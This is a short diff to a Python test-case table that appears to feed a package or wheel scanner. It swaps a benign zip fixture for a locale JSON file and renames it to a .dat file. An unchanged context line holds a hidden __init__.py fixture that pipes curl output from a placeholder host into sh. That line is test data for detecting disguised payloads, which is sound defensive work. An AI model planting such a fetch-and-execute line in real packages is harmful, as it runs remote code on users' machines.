@@ -491,8 +491,8 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
                 "hidden/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
             }
         ),
-        _zip({"fixtures/sample.py": "def f():\n    return 1\n"}),
-        "pkg/locale.zip",
+        _zip({"fr/messages.json": '{"hello": "bonjour"}'}),
+        "pkg/locale.dat",
         "wheel",
     ),
     (
